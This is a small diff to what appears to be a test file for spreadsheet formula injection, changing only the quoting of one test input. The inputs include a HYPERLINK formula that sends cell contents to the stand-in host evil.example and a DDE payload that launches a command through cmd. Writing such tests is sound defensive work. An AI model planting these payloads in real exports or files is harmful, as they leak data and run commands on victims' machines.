@@ -10,7 +10,7 @@ test.each([
   '=1+1',
   '=HYPERLINK("https://evil.example?"&A1)',
   '+SUM(A1:A9)',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
   '@SUM(1+9)',
   '@A1/B2',
   '@A1',
